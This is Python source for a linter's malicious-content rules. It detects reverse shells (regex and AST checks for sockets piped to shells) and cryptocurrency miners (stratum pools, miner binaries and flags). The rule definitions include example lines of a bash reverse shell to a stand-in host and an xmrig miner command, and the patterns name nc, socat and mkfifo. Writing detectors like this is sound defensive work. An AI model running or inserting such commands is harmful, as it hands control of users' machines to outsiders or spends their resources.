"""EX: a shell for somebody elsewhere, and coins for somebody else."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from trace2skill.lint.bounds import bounded
from trace2skill.lint.document import Context
from trace2skill.lint.gates import is_about_security
from trace2skill.lint.hosts import host_of
from trace2skill.lint.ran import Python, all_of
from trace2skill.lint.rules import Hit, Rule
from trace2skill.lint.shellprograms import program_of
from trace2skill.lint.shellwords import pipelines
from trace2skill.lint.view import View
from trace2skill.records import Severity

_REVERSE = re.compile(
    r"\b(?:ba|z|da|k)?sh -i\b[^\n]{0,60}[<>]&?[^\n]{0,20}/dev/tcp/|\bexec \d{1,3}<>\s?/dev/tcp/"
    r"|/dev/tcp/[^\n]{1,160}\b(?:ba|z)?sh -i\b"
    r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s(?:-[a-z]{0,5}e|-c|--exec|--sh-exec)\s{1,3}\S{0,20}(?:sh|cmd)\b"
    r"|\bsocat\b[^\n]{0,120}\b(?:tcp|openssl|udp)[^\n]{0,120}\bexec:|\bsocat\b[^\n]{0,60}\bexec:[^\n]{0,120}\btcp"
    r"|\bmkfifo\b[^\n]{0,160}\b(?:ba|z)?sh\b[^\n]{0,60}\b(?:nc|ncat|netcat|openssl s_client)\b"
    r"|\bTCPClient\([^\n]{1,400}\b(?:iex|invoke-expression)\b",
    re.IGNORECASE,
)
_WORTH = re.compile(r"/dev/tcp/|\b(?:nc|ncat|netcat|socat|mkfifo)\b|TCPClient", re.IGNORECASE)
_SHOWN = re.compile(
    r"\b(?:grep|egrep|rg|ag|echo|printf|pattern|regex|re\.\w{1,12}|match|contains|detect\w{0,5}|flag)\b|^\s{0,40}#",
    re.IGNORECASE,
)
_REVERSE_MESSAGE = "hands a shell to another machine"
_POOL = re.compile(r"\bstratum\d?\+(?:tcp|ssl|tls)://|\bstratum2?://", re.IGNORECASE)
_MINERS = frozenset(
    "xmrig minerd cpuminer ethminer t-rex nbminer lolminer phoenixminer xmr-stak nanominer".split()
)
_MINER_FLAGS = frozenset("-o --url -u --user --donate-level -a --algo --coin -P --pool".split())
_WALLET = re.compile(r"[\"'](?:user|wallet|pass|coin|algo|donate-level|rig-id)[\"']\s{0,3}:")
_PRIVATE = re.compile(r"(?<![\d.])(?:10|127|192\.168|172\.(?:1[6-9]|2\d|3[01]))(?:\.\d{1,3}){2,3}(?![\d.])")
_MINER_MESSAGE = "mines coins on the user's machine"


@bounded
def reverse_shells(view: View) -> Iterator[Hit]:
    """Find a shell that is handed to another machine."""
    told: set[tuple[str, int]] = set()
    for code in all_of(view).code:
        rows = code.text.split("\n") if _WORTH.search(code.text) else []
        for number, line in enumerate(rows, start=code.line):
            found = _REVERSE.search(line[:4000])
            if found is not None:
                told.add((code.path, number))
                shown = _SHOWN.search(line[: found.start()]) is not None
                mild = shown or (not code.file and (is_about_security(view) or _PRIVATE.search(line)))
                yield _hit(
                    (code.path, number), line, _REVERSE_MESSAGE, code.context, "warning" if mild else None
                )
    for script in view.scripts():
        for number, line in script.lines() if _WORTH.search(script.text) else ():
            if (script.path, number) not in told and _REVERSE.search(line[:4000]):
                yield _hit((script.path, number), line, _REVERSE_MESSAGE, script.context, "warning")
    for one in all_of(view).python:
        yield from _of_python(one)
    for script in view.scripts("javascript"):
        if _is_node_shell(script.text):
            place = script.path, script.at(script.text.count("\n", 0, script.text.find("spawn(")) + 1)
            yield _hit(place, "spawn(", _REVERSE_MESSAGE, script.context, None)


def _is_node_shell(text: str) -> bool:
    """Say whether a process of the shell is piped to a socket in both ways."""
    opened = re.search(r"\bnet\b[^\n]{0,60}\bconnect\(|\.connect\(\d{2,5}", text)
    process = re.search(r"\bspawn\(\s{0,4}[\"'][^\"'\n]{0,20}(?:sh|cmd(?:\.exe)?)[\"']", text)
    return bool(opened and process and ".pipe(" in text and ".stdin" in text and ".stdout" in text)


def _hit(place: tuple[str, int], text: str, message: str, context: Context, level: Severity | None) -> Hit:
    return Hit(*place, message, evidence=text.strip(), context=context, level=level)


def _of_python(one: Python) -> Iterator[Hit]:
    """Find a connected socket whose file becomes that of a shell."""
    names, sockets, near = one.flow.names, set(), False
    for node in one.flow.calls:
        if isinstance(node.func, ast.Attribute) and node.func.attr in ("connect", "connect_ex"):
            if names.of(node.func.value).startswith("socket."):
                sockets.add(ast.unparse(node.func.value))
                near = near or _is_near(names.text(_first(node)))
        elif names.of(node.func) == "socket.create_connection":
            sockets.update(_targets(one, node))
    for node in one.flow.calls if sockets else ():
        name = names.of(node.func)
        given = [*node.args, *(keyword.value for keyword in node.keywords)]
        whose = {
            ast.unparse(inner) for value in given for inner in ast.walk(value) if isinstance(inner, ast.expr)
        }
        if (name == "os.dup2" or name.startswith("subprocess.")) and sockets & whose:
            place = one.script.path, one.script.at(node.lineno)
            level: Severity | None = "warning" if near else None
            yield _hit(place, ast.unparse(node), _REVERSE_MESSAGE, one.script.context, level)
            return


def _targets(one: Python, call: ast.Call) -> set[str]:
    return {
        ast.unparse(node.targets[0])
        for node in one.flow.nodes
        if isinstance(node, ast.Assign) and node.value is call
    }


def _first(node: ast.Call) -> ast.expr:
    """Return the host that a call connects to."""
    first: ast.expr = node.args[0] if node.args else ast.Constant("")
    return first.elts[0] if isinstance(first, ast.Tuple) and first.elts else first


def _is_near(name: str | None) -> bool:
    host = host_of(f"tcp://{name}") if name else None
    return host is not None and host.reach in ("local", "private")


@bounded
def miners(view: View) -> Iterator[Hit]:
    """Find programs that mine coins: a miner with a pool as its argument, or the settings of one."""
    told = set()
    for code in all_of(view).code:
        if "stratum" not in code.text and not any(name in code.text for name in _MINERS):
            continue
        for pipeline in pipelines(code.text[:200_000]):
            for stage in pipeline:
                program, rest = program_of(stage.words)
                pool = any(_POOL.search(word) for word in rest)
                mines = program in _MINERS and (pool or len(_MINER_FLAGS.intersection(rest)) > 0)
                if mines or (pool and not _SHOWN.search(program)):
                    place = code.path, code.line + stage.line - 1
                    told.add(place)
                    yield _hit(place, stage.text, _MINER_MESSAGE, code.context, None)
    for file in view.texts():
        found = _POOL.search(file.text) if file.kind != "markdown" else None
        if found is not None:
            settings = file.kind in ("json", "yaml", "toml", "text") and _WALLET.search(file.text)
            runs = file.kind == "python" and _runs_miner(file.text)
            line = file.text.count("\n", 0, found.start()) + 1
            level: Severity | None = None if settings or runs else "warning"
            if (file.path, line) in told:
                continue
            yield _hit((file.path, line), file.text[found.start() :][:200], _MINER_MESSAGE, "active", level)


def _runs_miner(text: str) -> bool:
    return "subprocess" in text and any(name in text for name in _MINERS)


RULES = (
    Rule(
        id="EX104", name="reverse-shell", class_="malicious", level="error", check=reverse_shells,
        why="Somebody elsewhere types, and the user's machine obeys.",
        bad="```sh\nbash -i >& /dev/tcp/files.zz-not-a-host.xyz/4444 0>&1\n```\n",
        good="```sh\n(echo > /dev/tcp/localhost/5432) && echo up; nc -z localhost 5432\n```\n",
        hazards=("CWE-78",),
    ),
    Rule(
        id="EX112", name="miner", class_="malicious", level="error", check=miners,
        why="It spends the user's power on somebody else's coins.",
        bad="```sh\n./xmrig -o stratum+tcp://pool.zz-not-a-host.xyz:3333\n```\n",
        good="```sh\n./pool-bench -o stratum.json\n```\n",
        hazards=("CWE-506",),
    ),
)  # fmt: skip
